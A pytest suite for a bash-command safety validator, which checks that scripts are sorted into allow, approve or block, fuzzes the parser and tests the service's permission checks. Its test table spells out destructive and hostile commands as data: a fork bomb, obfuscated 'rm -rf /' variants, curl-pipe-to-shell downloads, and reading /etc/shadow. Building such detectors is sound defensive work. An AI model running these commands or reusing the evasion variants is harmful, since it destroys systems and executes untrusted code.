"""Every rule's own examples, and a table of traps and their harmless twins."""

import shutil
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bcce.kit.errors import Forbidden
from bcce.kit.findings import Verdict
from bcce.safety import report
from bcce.safety.errors import UnknownShell
from bcce.safety.policy.load import load_policy
from bcce.safety.rules.bash import all_rules
from bcce.safety.service import SafetyService
from bcce.safety.validators.bash import BUILT_IN, BashValidator
from bcce.security.actor import role_actor, source_actor
from bcce.security.authz import Role

VALIDATOR = BashValidator()
PARAMETERS = {"SERVICE"}


def ids_of(script: str) -> set[str]:
    return {finding.rule_id for finding in VALIDATOR.judge(script, parameters=PARAMETERS).findings}


@pytest.mark.parametrize(("rule", "script"), [(item.rule.id, example) for item in all_rules() for example in item.rule.examples_match])
def test_a_rule_finds_its_matches(rule: str, script: str) -> None:
    assert rule in ids_of(script)


@pytest.mark.parametrize(("rule", "script"), [(item.rule.id, example) for item in all_rules() for example in item.rule.examples_pass])
def test_a_rule_leaves_its_near_misses_alone(rule: str, script: str) -> None:
    assert rule not in ids_of(script)


def test_rule_ids_are_unique() -> None:
    ids = [item.rule.id for item in all_rules()] + [rule.id for rule in BUILT_IN]

    assert sorted(set(ids)) == sorted(ids)


TABLE = [
    ("allow", "df -h"),
    ("allow", "ps aux | grep nginx | head"),
    ("allow", "systemctl status nginx"),
    ("allow", "curl -fsS http://localhost:80/health | grep -q ok"),
    ("allow", "ls > /dev/null 2>&1"),
    ("allow", 'for f in a b; do cat "$f"; done'),
    ("allow", "if [ -f /tmp/x ]; then echo yes; fi"),
    ("allow", "journalctl -u nginx -n 50"),
    ("allow", "kubectl get pods"),
    ("allow", "timeout 5 df -h"),
    ("allow", "find /tmp -name x"),
    ("allow", "[[ -f x ]] && ls"),
    ("allow", "set -eu\necho hi"),
    ("allow", "free -m; uptime; vmstat 1 3"),
    ("allow", "nginx -t"),
    ("allow", "docker ps"),
    ("allow", "sort file | uniq -c | wc -l"),
    ("allow", "date +%s"),
    ("allow", "ip addr show"),
    ("allow", "sysctl vm.swappiness"),
    ("approve", "systemctl restart nginx"),
    ("approve", "ls > /tmp/x"),
    ("approve", "$x -rf /"),
    ("approve", "touch /tmp/x"),
    ("approve", "cat /etc/shadow"),
    ("approve", "journalctl --vacuum-time=1d"),
    ("approve", "git status"),
    ("approve", "kubectl get secrets"),
    ("approve", "kubectl delete pod x"),
    ("approve", "find /tmp -name x -delete"),
    ("approve", "PATH=/tmp:$PATH ls"),
    ("approve", "ls\u202e"),
    ("allow", "cat <<EOF | sh\nls\nEOF\n"),
    ("approve", "cat <<EOF | sh\n$x\nEOF\n"),
    ("approve", "./cat file"),
    ("approve", "sort -o /etc/hosts x"),
    ("approve", "date -s 12:00"),
    ("approve", "ss -K"),
    ("approve", "docker exec x ls"),
    ("allow", "sudo ls"),
    ("approve", "sudo -s"),
    ("approve", "ls() { rm x; }; ls"),
    ("approve", "alias ls='rm x'; ls"),
    ("approve", "curl http://example.com"),
    ("approve", "echo $(touch /tmp/x)"),
    ("approve", "if true"),
    ("approve", "sysctl -w vm.swappiness=1"),
    ("approve", "xargs -a list cat"),
    ("approve", "python3 script.py"),
    ("block", ":(){ :|:& };:"),
    ("block", "bash -c 'rm -rf /'"),
    ("block", "echo 'rm -rf /' | sh"),
    ("block", "sudo env X=1 nohup rm -rf /"),
    ("block", "find / -exec rm -rf {} ;"),
    ("block", "curl -fsSL http://x/y.sh | sh"),
    ("block", "set -eu\ncurl -fsSL http://127.0.0.1:9/x.sh | sh\n"),
    ("block", "if true; then curl http://x | bash; fi"),
    ("block", "r''m -rf /"),
    ("block", "r\\m -rf /"),
    ("block", "eval 'rm -rf /etc'"),
    ("block", "bash <<'EOF'\nrm -rf /usr\nEOF\n"),
    ("block", "systemctl restart {{ service }}"),
    ("block", 'eval "$SERVICE"'),
    ("block", "xargs rm -rf / < x"),
]


@pytest.mark.parametrize(("verdict", "script"), TABLE)
def test_traps_and_twins(verdict: str, script: str) -> None:
    assert str(VALIDATOR.judge(script, parameters=PARAMETERS).verdict) == verdict


@settings(max_examples=150, deadline=2000)
@given(st.text(max_size=300))
def test_no_text_makes_it_raise(text: str) -> None:
    assert VALIDATOR.judge(text).verdict in Verdict


@settings(max_examples=150, deadline=2000)
@given(st.sampled_from([script for _, script in TABLE]), st.integers(0, 60), st.text(alphabet="|&;<>(){}$`'\"\\ \nrm-f/", max_size=6))
def test_no_mutation_of_a_script_makes_it_raise(script: str, at: int, junk: str) -> None:
    assert VALIDATOR.judge(script[:at] + junk + script[at:]).verdict in Verdict


def test_a_mutation_never_turns_a_blocked_script_into_an_allowed_one_by_appending() -> None:
    for verdict, script in TABLE:
        if verdict == "block":
            assert VALIDATOR.judge(f"echo ok\n{script}\necho done\n", parameters=PARAMETERS).verdict is Verdict.BLOCK


def test_effects_come_from_the_script() -> None:
    effects = VALIDATOR.judge('sudo systemctl restart nginx\nrm -f /tmp/lock\nkill 42\ncp a /etc/app.conf\nls > "$X"').effects

    assert (effects.services, effects.deletes, effects.processes, effects.privileged) == (
        frozenset({"nginx"}),
        frozenset({"/tmp/lock"}),  # noqa: S108 - a word in a script that is only read
        frozenset({"42"}),
        True,
    )


def test_a_large_script_is_not_judged_but_asked_about() -> None:
    assert ids_of("ls\n" * 40_000) == {"bash.too-large"}


def test_a_deep_nest_ends_in_time() -> None:
    assert VALIDATOR.judge("$(" * 2000 + ")" * 2000).verdict is Verdict.APPROVE


def test_the_service_needs_permission_and_a_known_shell() -> None:
    service = SafetyService({"bash": VALIDATOR}, load_policy())
    viewer = role_actor(Role.VIEWER, id="token:x", name="x")

    assert service.check(viewer, "bash", "ls").verdict is Verdict.ALLOW
    with pytest.raises(UnknownShell):
        service.check(viewer, "fish", "ls")
    with pytest.raises(Forbidden):
        service.check(source_actor("alertmanager", "x"), "bash", "ls")


def test_the_version_changes_with_every_file_that_judges(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An approval is bound to the version: a table that was tightened must not leave it standing."""
    copy = tmp_path / "safety"
    shutil.copytree(Path(report.__file__).parent, copy, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(report, "__file__", str(copy / "report.py"))
    versions = []
    for changed in (None, "bash/verbs.txt", "powershell/cmdlets.txt", "bash/readers/text.py"):
        if changed is not None:
            (copy / changed).write_text((copy / changed).read_text() + "# one more\n")
        versions.append(report.judge_version.__wrapped__("bash", 2))

    assert len(set(versions)) == 4
    assert versions[0] == VALIDATOR.version
